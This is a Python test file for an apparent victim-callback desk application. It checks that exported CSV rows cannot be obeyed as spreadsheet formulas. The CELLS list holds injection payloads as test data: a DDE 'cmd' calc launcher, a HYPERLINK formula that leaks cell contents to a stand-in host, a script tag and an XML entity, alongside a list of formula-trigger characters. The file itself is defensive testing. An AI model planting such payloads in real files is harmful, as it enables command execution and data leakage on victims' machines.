"""Rows to correct out of hostile files: nothing a spreadsheet could obey, in any format; no half file, no stray one."""

from __future__ import annotations

import csv
import hashlib
import stat
from pathlib import Path

import pytest

from callback_desk.bootstrap.rows_again import write_rows
from callback_desk.domain.errors import DeskFault
from callback_desk.domain.rows_to_correct import RowsWanted, RowsWritten
from callback_desk.intake.aliases import shipped_aliases
from callback_desk.intake.heading_words import heading_words
from callback_desk.intake.limits import Limits
from callback_desk.intake.opening import open_source
from callback_desk.intake.request import ReadRequest
from callback_desk.intake.rows_again import LINE, TO_DO, WRONG
from callback_desk.intake.table import LineCounts, find_table, table_rows
from callback_desk.use_cases.import_prepare import ImportStopped
from tests.intake.written import FORMATS

HEADINGS = ["Case Number", "Victim Name", "Victim Phone", "Report Date", "Notes"]
NOTE = (("Victim Phone: There is no number.", "Ask Records for one."),)
OBEYED = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CELLS = (
    '=HYPERLINK("http://x.example/?"&A1,"ok")',
    "=cmd|' /C calc'!A0",
    "+13125550142",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''+1",
    'a","=1+1',
    "a;=1+1",
    "line one\nline two",
    "line one\r\n=1+1",
    "<script>alert(1)</script>",
    "\u202e=1+1",
    "x" * 32_000,
)
TABLE = [HEADINGS, *([f"26-{number:06d}", cell, "", "2026-11-01", cell] for number, cell in enumerate(CELLS))]


def places_in(path: Path) -> list[tuple[str, int]]:
    """Where the rows stand, as an import keeps it."""
    source = open_source(path, ReadRequest(str(path)))
    table = find_table(source, Limits(), heading_words(shipped_aliases()))
    return [(raw.place.sheet, raw.place.line) for raw in table_rows(source, table, Limits(), LineCounts())]


def save(path: Path, target: Path, places: list[tuple[str, int]], *, stop: bool = False) -> RowsWritten:
    wanted = RowsWanted(NOTE, tuple((sheet, line, 0) for sheet, line in places))
    sha256 = hashlib.sha256(path.read_bytes()).hexdigest()
    return write_rows(path, sha256, wanted, target, layout=None, cancelled=lambda: stop)


def read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, strict=True))


@pytest.mark.parametrize("kind", FORMATS)
def test_no_cell_of_any_format_is_obeyed(tmp_path: Path, kind: str) -> None:
    path, target = tmp_path / f"list.{kind}", tmp_path / "correct.csv"
    path.write_bytes(FORMATS[kind](TABLE))
    written = save(path, target, places_in(path))
    rows = read(target)
    assert written.rows == len(CELLS) == len(rows) - 1
    assert rows[0] == [LINE, WRONG, TO_DO, *HEADINGS]
    for row, before in zip(rows[1:], TABLE[1:], strict=True):
        assert len(row) == len(rows[0])
        assert row[3] == before[0]
        for cell in row:
            assert not cell.replace("\u00a0", " ").lstrip(" ").startswith(OBEYED)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert hashlib.sha256(target.read_bytes()).hexdigest() == written.sha256
    assert sorted(each.name for each in tmp_path.iterdir()) == sorted(["correct.csv", path.name])


@pytest.mark.parametrize("kind", FORMATS)
def test_what_was_written_is_read_again_cell_for_cell(tmp_path: Path, kind: str) -> None:
    path, target = tmp_path / f"list.{kind}", tmp_path / "correct.csv"
    path.write_bytes(FORMATS[kind](TABLE))
    save(path, target, places_in(path))
    sources = [open_source(each, ReadRequest(str(each))) for each in (path, target)]
    cells = []
    for source in sources:
        table = find_table(source, Limits(), heading_words(shipped_aliases()))
        cells.append([raw.cells for raw in table_rows(source, table, Limits(), LineCounts())])
    assert cells[0] == cells[1]
    assert len(cells[0]) == len(CELLS)


def test_many_long_rows_go_through_a_small_child(tmp_path: Path) -> None:
    """33 MB of rows; the child has 512 MB of address space, its code among them, and this side holds none of them."""
    path, target = tmp_path / "list.csv", tmp_path / "correct.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        sheet = csv.writer(file)
        sheet.writerow(HEADINGS)
        sheet.writerows([f"26-{number:06d}", "=Quill", "", "2026-11-01", "=x\n" * 2_000] for number in range(5_500))
    written = save(path, target, places_in(path))
    assert written.rows == 5_500
    assert written.size_bytes == target.stat().st_size > 30_000_000


def test_a_stop_a_full_target_and_rows_that_are_not_there_leave_nothing(tmp_path: Path) -> None:
    path, target = tmp_path / "list.csv", tmp_path / "correct.csv"
    path.write_bytes(FORMATS["csv"](TABLE))
    places = places_in(path)
    with pytest.raises(ImportStopped):
        save(path, target, places, stop=True)
    with pytest.raises(DeskFault, match="Not every row could be found again"):
        save(path, target, [*places, ("", 999)])
    target.mkdir()
    with pytest.raises(DeskFault, match="already"):
        save(path, target, places)
    target.rmdir()
    assert [each.name for each in tmp_path.iterdir()] == [path.name]


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("list.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 8, "is not a table"),
        ("list.csv", b'Case Number,Victim Name\n26-1,"cut off in the middle', "quotation mark"),
        ("list.xlsx", b"PK\x03\x04" + b"\0" * 400, "."),
        ("list.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>', "."),
        ("list.csv", b"", "empty"),
    ],
)
def test_a_file_that_cannot_be_read_is_said_and_nothing_was_saved(
    tmp_path: Path, name: str, content: bytes, said: str
) -> None:
    path, target = tmp_path / name, tmp_path / "correct.csv"
    path.write_bytes(content)
    with pytest.raises(DeskFault, match=said) as refused:
        save(path, target, [("", 2)])
    assert refused.value.sentence.endswith("Nothing was saved.")
    assert "imported" not in refused.value.sentence
    assert [each.name for each in tmp_path.iterdir()] == [name]
